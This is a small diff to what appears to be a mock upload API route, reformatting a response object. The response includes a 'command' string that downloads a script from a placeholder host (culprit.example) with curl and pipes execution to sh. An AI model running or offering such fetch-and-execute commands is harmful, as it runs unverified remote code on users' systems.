@@ -58,7 +58,14 @@ route("POST", "/uploads", ({ body }) => {
   };
   made.uploads = [one, ...made.uploads];
   const url = "https://culprit.example/up/J1t7mZ3k8QwX0cV5nB2lP9sD4fG6hY0aR1eT7uI3oM8";
-  return ok({ ...one, url, command: `d=$(mktemp -d) && cd "$d" && curl -fsS '${url}' -o culprit.sh && sh culprit.sh` }, 201);
+  return ok(
+    {
+      ...one,
+      url,
+      command: `d=$(mktemp -d) && cd "$d" && curl -fsS '${url}' -o culprit.sh && sh culprit.sh`,
+    },
+    201,
+  );
 });
 route("DELETE", "/uploads/:id", (_, uploadId) => {
   if (!made.uploads.some((each) => each.id === uploadId))
